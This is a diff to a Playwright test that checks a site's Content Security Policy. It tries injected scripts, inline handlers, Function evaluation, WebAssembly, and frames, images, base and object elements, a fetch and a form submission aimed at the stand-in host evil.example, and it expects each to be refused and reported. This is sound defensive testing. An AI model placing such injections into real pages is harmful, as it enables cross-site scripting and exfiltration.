@@ -32,105 +32,75 @@ async function listenForRefusals(page: Page): Promise<(address: string) => Promi
     );
 }
 
-/** What an attacker might get a page to do, and by which directive it is refused. */
-const attempts: Readonly<Record<string, [directive: string, attempt: () => unknown]>> = {
-  'run a script of the page': [
+/** What an attacker might put into a page, and by which directive it is refused. */
+const elements: readonly (readonly [
+  directive: string,
+  tag: string,
+  property: string,
+  value: string,
+])[] = [
+  ['script-src-elem', 'script', 'src', 'https://evil.example/a.js'],
+  // Another script of the tag manager's host.
+  ['script-src-elem', 'script', 'src', 'https://www.googletagmanager.com/other.js'],
+  ['style-src-elem', 'style', 'textContent', 'p{color:red}'],
+  ['img-src', 'img', 'src', 'https://evil.example/a.png'],
+  ['frame-src', 'iframe', 'src', 'https://evil.example/'],
+  // Another page of the host of videos.
+  ['frame-src', 'iframe', 'src', 'https://www.youtube-nocookie.com/other'],
+  ['base-uri', 'base', 'href', 'https://evil.example/'],
+  ['object-src', 'object', 'data', 'https://evil.example/a.swf'],
+];
+
+/** What an attacker might get a page to do otherwise. */
+const deeds: readonly (readonly [directive: string, deed: () => unknown])[] = [
+  [
     'script-src-elem',
     () => {
       const markup = '<script>window.ran = true</script>';
       document.body.append(document.createRange().createContextualFragment(markup));
     },
   ],
-  'run a handler': [
+  [
     'script-src-attr',
     () => {
       document.body.insertAdjacentHTML('beforeend', '<p onclick="window.ran = true">x</p>');
       (document.body.lastElementChild as HTMLElement).click();
     },
   ],
-  'run a text': [
-    'script-src',
-    // Later: what the test itself has the page do may evaluate texts.
-    () => setTimeout(() => Reflect.construct(Function, ['window.ran = true'])()),
-  ],
-  'load a script of another host': [
-    'script-src-elem',
-    () => {
-      const script = document.createElement('script');
-      script.src = 'https://evil.example/a.js';
-      document.head.append(script);
-    },
-  ],
-  'load another script of the host of the tag manager': [
-    'script-src-elem',
-    () => {
-      const script = document.createElement('script');
-      script.src = 'https://www.googletagmanager.com/other.js';
-      document.head.append(script);
-    },
-  ],
-  'send to another host': ['connect-src', () => fetch('https://evil.example/').catch(() => {})],
-  'load a picture of another host': [
-    'img-src',
-    () => {
-      new Image().src = 'https://evil.example/a.png';
-    },
-  ],
-  'set a style attribute': ['style-src-attr', () => document.body.setAttribute('style', 'top:0')],
-  'add a style element': [
-    'style-src-elem',
-    () => {
-      const style = document.createElement('style');
-      style.textContent = 'p{color:red}';
-      document.head.append(style);
-    },
-  ],
-  'show a page of another host': [
-    'frame-src',
-    () => {
-      const frame = document.createElement('iframe');
-      frame.src = 'https://evil.example/';
-      document.body.append(frame);
-    },
-  ],
-  'show another page of the host of videos': [
-    'frame-src',
-    () => {
-      const frame = document.createElement('iframe');
-      frame.src = 'https://www.youtube-nocookie.com/other';
-      document.body.append(frame);
-    },
-  ],
-  'send a form to another host': [
+  // Later: what the test itself has the page do may evaluate texts.
+  ['script-src', () => setTimeout(() => Reflect.construct(Function, ['window.ran = true'])())],
+  ['connect-src', () => fetch('https://evil.example/').catch(() => {})],
+  ['style-src-attr', () => document.body.setAttribute('style', 'top:0')],
+  [
     'form-action',
     () => {
-      const form = document.createElement('form');
+      const form = document.body.appendChild(document.createElement('form'));
       form.action = 'https://evil.example/';
-      document.body.append(form);
       form.submit();
     },
   ],
-  'let links lead elsewhere': [
-    'base-uri',
-    () => {
-      const base = document.createElement('base');
-      base.href = 'https://evil.example/';
-      document.head.append(base);
-    },
-  ],
-  'load a plug-in': [
-    'object-src',
-    () => {
-      const object = document.createElement('object');
-      object.data = 'https://evil.example/a.swf';
-      document.body.append(object);
-    },
-  ],
-  'compile WebAssembly': [
+  // WebAssembly.
+  [
     'script-src',
     () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch(() => {}),
   ],
-};
+];
+
+const attempts = [
+  ...elements.map(([directive, ...element]) => ({
+    directive,
+    attempt: (page: Page) =>
+      page.evaluate(([tag, property, value]) => {
+        const added = document.createElement(tag);
+        Object.assign(added, { [property]: value });
+        document.head.append(added);
+      }, element),
+  })),
+  ...deeds.map(([directive, deed]) => ({
+    directive,
+    attempt: (page: Page) => page.evaluate(deed as () => void),
+  })),
+];
 
 test('a page does nothing of what an attacker would have it do, and says so to the server', async ({
   page,
@@ -140,12 +110,12 @@ test('a page does nothing of what an attacker would have it do, and says so to t
   await answerThirdParties(context, answers.empty);
   await openPage(page, pathnameOf('en'));
   const refused = await listenForRefusals(page);
-  for (const [name, [directive, attempt]] of Object.entries(attempts))
-    await test.step(name, async () => {
+  for (const [index, { directive, attempt }] of attempts.entries())
+    await test.step(`${directive} ${index}`, async () => {
       // Each attempt has an address of its own, by which the reports are told apart.
-      const address = `?${plantedQuery}=${encodeURIComponent(name)}`;
+      const address = `?${plantedQuery}=${directive}-${index}`;
       await page.evaluate((query) => history.replaceState(null, '', query), address);
-      await page.evaluate(attempt as () => void).catch(() => {});
+      await attempt(page).catch(() => {});
       await expect.poll(() => refused(address)).toContain(directive);
       expect(await page.evaluate(() => 'ran' in window)).toBe(false);
       const reported = async () => {
